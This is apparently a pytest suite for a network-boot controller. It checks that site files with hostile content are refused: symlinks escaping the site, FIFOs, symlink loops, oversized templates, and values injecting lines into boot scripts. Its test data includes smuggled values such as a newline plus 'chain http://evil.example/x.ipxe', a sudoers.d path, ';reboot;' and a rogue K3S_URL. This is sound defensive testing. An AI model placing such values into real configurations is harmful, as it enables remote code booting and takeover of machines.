"""A site directory is files in git: a hostile commit, or a mistake, must not make the
controller serve what is outside the site, hang, or write lines of its own into boot scripts.
From an audit of site files with hostile content."""

from __future__ import annotations

import os
import shutil
import threading
from pathlib import Path
from urllib.parse import unquote

import pytest

from bastion.render import gotemplate
from bastion.render.config import metadata_env
from bastion.site.holder import SiteHolder, fingerprint
from bastion.site.load import SiteError, load_site
from bastion_testkit import auth


def _problems(site: Path) -> str:
    with pytest.raises(SiteError) as e:
        load_site(site)
    return str(e.value)


def test_a_symlink_out_of_the_site_is_refused_not_served(site_dir, tmp_path):
    # generic/node.env -> /etc/passwd was served at the public /generic
    outside = tmp_path / "outside.txt"
    outside.write_text("SECRET=1\n")
    env = site_dir / "generic" / "node.env"
    env.unlink()
    env.symlink_to(outside)
    assert "generic/node.env: is a symlink that leaves the site directory" in _problems(site_dir)
    # one that stays inside is a file like any other
    env.unlink()
    (site_dir / "generic" / "real.env").write_text("NAME={{ machine.name }}\n")
    env.symlink_to("real.env")
    load_site(site_dir)


def test_a_files_directory_that_is_a_symlink_out_of_the_site_is_refused(site_dir, tmp_path):
    outside = tmp_path / "files-outside"
    shutil.copytree(site_dir / "files", outside)
    shutil.rmtree(site_dir / "files")
    (site_dir / "files").symlink_to(outside)
    assert "files/ is a symlink that leaves the site directory" in _problems(site_dir)


def test_a_fifo_in_files_is_not_read(site_dir):
    # it hung site check, and the holder's lock with it: no reload ever again
    (site_dir / "files" / "motd").unlink()
    os.mkfifo(site_dir / "files" / "motd")
    done = []
    t = threading.Thread(target=lambda: done.append(_problems(site_dir)), daemon=True)
    t.start()
    t.join(30)
    assert done and "files/motd is not a regular file" in done[0]


def test_symlink_loops_do_not_hang_the_poller(site_dir):
    # two links to "." made 2**40 paths for the fingerprint's walk
    (site_dir / "files" / "a").symlink_to(".")
    (site_dir / "files" / "b").symlink_to(".")
    done = []
    t = threading.Thread(target=lambda: done.append(fingerprint(site_dir)), daemon=True)
    t.start()
    t.join(30)
    assert done and any(p == "files/a" for p, *_ in done[0])


def test_a_file_the_loader_chokes_on_is_a_failed_reload_not_a_silent_one(site_dir):
    holder = SiteHolder(site_dir)
    deep = "[" * 100000 + "]" * 100000
    (site_dir / "groups").mkdir(exist_ok=True)
    (site_dir / "groups" / "g.json").write_text(
        '{"profile": "flatcar-worker", "selector": {"os": "x"}, "metadata": {"a": %s}}' % deep)
    outcome = holder.reload()
    assert not outcome.ok and "nested too deeply" in outcome.error
    assert holder.last_error and holder.generation == 1


@pytest.mark.parametrize("file, old, new, says", [
    ("profiles/flatcar-control.yaml", "kernel: /assets", "kernel: \"/assets/x\\nchain http://evil.example/x.ipxe\"\n#", "has a control character"),
    ("machines.yaml", "hostname: pi1.home.arpa", "hostname: \"pi1.home.arpa\\n    - path: /etc/sudoers.d/evil\"", "is not a host name"),
    ("site.yaml", "# controller_url: http://10.77.0.1:8080", "controller_url: 'http://10.77.0.1:8080/x\";reboot;echo\"'", "cannot go into the boot scripts"),
])  # fmt: skip
def test_values_written_into_boot_scripts_may_not_carry_lines_of_their_own(site_dir, file, old, new, says):
    path = site_dir / file
    text = path.read_text()
    assert old in text, (file, old)
    path.write_text(text.replace(old, new, 1))
    assert says in _problems(site_dir)


def test_a_label_with_a_line_break_is_refused(site_dir):
    path = site_dir / "machines.yaml"
    text = path.read_text()
    path.write_text(text.replace("labels:\n", "labels:\n      evil: \"rpi4\\nK3S_URL=https://evil.example:6443\"\n", 1))
    assert "has a control character" in _problems(site_dir)


def test_metadata_lines_leave_out_values_with_line_breaks():
    text = metadata_env({"name": "node1", "query": "x\nK3S_URL=https://evil.example", "pem": "a\r\nb"})
    assert text == "NAME=node1\n"


def test_go_templates_cannot_ask_for_gigabytes():
    for src, says in (('{{ printf "%0999999999d" 1 }}', "width or precision over 4096"),
                      ("{{ range 3000000000 }}x{{ end }}", "more than 100000")):  # fmt: skip
        with pytest.raises(gotemplate.TemplateError, match=says):
            gotemplate.parse(src).render({})


def test_jinja_has_no_lipsum():
    from bastion.render.config import jinja_env

    assert "lipsum" not in jinja_env.globals


def test_a_relay_of_true_and_a_device_address_of_nobody_are_refused(site_dir):
    # relay: true was taken as channel 1; device.ip 0.0.0.0 was flashed as the server id
    path = site_dir / "machines.yaml"
    text = path.read_text()
    path.write_text(text.replace("    relay: 0", "    relay: true", 1))
    assert "relay" in _problems(site_dir)
    path.write_text(text)
    site = site_dir / "site.yaml"
    text = site.read_text()
    assert "device:\n  ip: " in text
    site.write_text(text.replace("device:\n  ip: ", "device:\n  ip: 0.0.0.0 #", 1))
    assert "is not a host's address" in _problems(site_dir)


def test_a_pi_menu_text_is_bounded_in_bytes_as_option_43_holds_it(site_dir):
    # 150 characters of two bytes each: within 200 characters, 300 bytes in the option; the
    # device would have refused the flash (its checker counts bytes), the site said nothing
    site = site_dir / "site.yaml"
    text = site.read_text()
    assert "device:\n" in text
    site.write_text(text.replace("device:\n", "device:\n  rpi:\n    menu: " + "\u00e9" * 150 + "\n", 1))
    assert "300 bytes of UTF-8: at most 200" in _problems(site_dir)
    site.write_text(text.replace("device:\n", "device:\n  rpi:\n    menu: " + "\u00e9" * 100 + "\n", 1))
    load_site(site_dir)  # 200 bytes: loads


def _motd(client) -> str:
    r = client.get("/ignition", params={"mac": "52:54:00:12:34:01"})  # node1: worker.bu, local: motd
    assert r.status_code == 200, r.text
    (entry,) = [f for f in r.json()["storage"]["files"] if f["path"] == "/etc/motd.d/bastion.conf"]
    return unquote(entry["contents"]["source"].removeprefix("data:,"))


def test_files_are_served_as_the_last_good_site_loaded_them(site_dir, client_for):
    # local: read files/ at every request: a file deleted there made every node's Ignition a 500
    # while /healthz said the last good site was still serving, and a file half-written by an
    # editor went to a node at once, without the two looks a reload waits for
    client = client_for(site_dir)
    motd = site_dir / "files" / "motd"
    loaded = motd.read_text()
    assert _motd(client) == loaded
    with motd.open("w") as f:  # an editor writing in place, caught halfway
        f.write("This node boots")
        f.flush()
        assert _motd(client) == loaded
    motd.unlink()
    r = client.post("/api/v1/reload", headers=auth())
    assert r.status_code == 422 and "files/motd does not exist" in r.text
    assert _motd(client) == loaded
    motd.write_text("Welcome.\n")
    assert client.post("/api/v1/reload", headers=auth()).status_code == 200
    assert _motd(client) == "Welcome.\n"


def test_files_reached_through_symlinks_inside_files_still_read(site_dir, tmp_path):
    files = site_dir / "files"
    (files / "texts").mkdir()
    (files / "motd").rename(files / "texts" / "motd.txt")
    (files / "motd").symlink_to("texts/motd.txt")
    (files / "also").symlink_to("texts")
    load_site(site_dir)
    bu = site_dir / "ignition" / "worker.bu"
    bu.write_text(bu.read_text().replace("local: motd", "local: also/../also/motd.txt"))
    load_site(site_dir)
    (tmp_path / "elsewhere").mkdir()
    (files / "out").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere" / "motd").write_text("x\n")
    bu.write_text(bu.read_text().replace("local: also/../also/motd.txt", "local: out/motd"))
    assert "'out/motd' leaves the files/ directory" in _problems(site_dir)
    bu.write_text(bu.read_text().replace("local: out/motd", "local: texts"))
    assert "files/texts is not a regular file" in _problems(site_dir)
    bu.write_text(bu.read_text().replace("local: texts", "local: ../files/motd"))
    assert "'../files/motd' leaves the files/ directory" in _problems(site_dir)


def test_files_past_the_total_files_may_hold_are_refused_by_name_not_held(site_dir, monkeypatch):
    # what one load holds in memory is bounded, files read in name order: a file past the
    # bound that nothing names does not stop the site loading; a local: that names one says why
    from bastion.render import butane

    files = site_dir / "files"
    held = sum(p.stat().st_size for p in files.rglob("*") if p.is_file())
    monkeypatch.setattr(butane, "MAX_LOCAL_TOTAL", held + 10)
    (files / "zz-unused").write_bytes(b"x" * 100)
    load_site(site_dir)
    (files / "aa-big").write_bytes(b"x" * 100)
    assert "is not read: files/ holds more than" in _problems(site_dir)
